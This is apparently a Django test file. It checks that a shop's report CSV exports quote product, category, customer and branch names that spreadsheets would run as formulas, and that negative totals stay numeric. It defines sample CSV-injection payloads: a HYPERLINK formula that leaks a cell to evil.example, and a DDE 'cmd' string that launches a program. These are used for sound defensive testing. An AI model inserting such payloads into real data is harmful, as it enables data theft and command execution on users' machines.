"""Report CSVs with names a spreadsheet would run as formulas (issue 12,
item 7): every such cell comes out quoted, every figure as it is, negative
ones included."""
import csv
import io
from datetime import timedelta
from decimal import Decimal

from django.utils import timezone

from apps.branches.services import branch_create
from apps.customers.services import customer_create
from apps.inventory.services import category_create
from apps.reports.selectors.periods import today as shop_today
from apps.sales.reversals import sale_return
from apps.sales.services import LineInput, PaymentInput, sale_create, sale_quote
from tests.reports.conftest import consume_all

LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
SUM = "+SUM(1,2)"
CMD = "-2+3+cmd|' /C calc'!A0"
AT = "@SUM(9,9)"


def csv_rows(client, name: str, **params) -> list[list[str]]:
    response = client.get(f"/reports/{name}/", {"format": "csv", **params})
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.getvalue().decode("utf-8-sig"))))


def sell(cashier, branch, item, *, customer=None, occurred_at=None):
    lines = [LineInput(item_id=item.pk)]
    due = sale_quote(lines=lines, occurred_at=occurred_at).due
    return sale_create(actor=cashier, branch=branch, lines=lines, payments=[PaymentInput(method="cash", amount=due)],
                       customer=customer, occurred_at=occurred_at)


def test_names_that_are_formulas_are_quoted_in_every_report(as_manager, cashier, branch, make_item, gold_rate):
    hostile = category_create(name=CMD)
    ring = make_item(sku="CSV-1", name=SUM, category=hostile, quantity=5)
    make_item(sku="CSV-2", name=AT, category=hostile, quantity=0, branch=branch_create(name="\t=1+1 branch"))
    sell(cashier, branch, ring, customer=customer_create(full_name=LINK, phone="09127771111"))

    product = next(r for r in csv_rows(as_manager, "products") if r[0] == "CSV-1")
    assert product[1:3] == ["'" + SUM, "'" + CMD]
    assert product[3] == "1" and Decimal(product[6]) > 0

    category = next(r for r in csv_rows(as_manager, "categories") if r[0].endswith(CMD))
    assert category[0] == "'" + CMD

    # The phone is stored as +98...: a number, so it is written unquoted.
    top = next(r for r in csv_rows(as_manager, "customers") if r[1] == "+989127771111")
    assert top[0] == "'" + LINK

    low = next(r for r in csv_rows(as_manager, "low-stock") if r[0] == "CSV-2")
    assert low[1:4] == ["'" + AT, "'" + CMD, "'=1+1 branch"]  # the service trims the tab; the = is still first


def test_a_negative_figure_is_written_as_a_number(as_manager, manager, cashier, branch, make_item, gold_rate):
    """Yesterday's sale returned today: today's net is minus the refund, and
    it must stay a number a spreadsheet can add up, not quoted text."""
    ring = make_item(sku="CSV-NEG", quantity=2)
    sale = sell(cashier, branch, ring, occurred_at=timezone.now() - timedelta(days=1))
    consume_all()
    sale_return(actor=manager, sale=sale, lines=[(sale.lines.get().pk, 1)], reason="too small")
    consume_all()

    rows = csv_rows(as_manager, "daily")
    today = rows[-2]  # the last day, before the totals
    assert today[0] == shop_today().isoformat()
    assert today[5] == "53754400" and today[6] == "-53754400"  # vector 1's ring, in whole rials
    assert Decimal(today[6]) == -sale.total
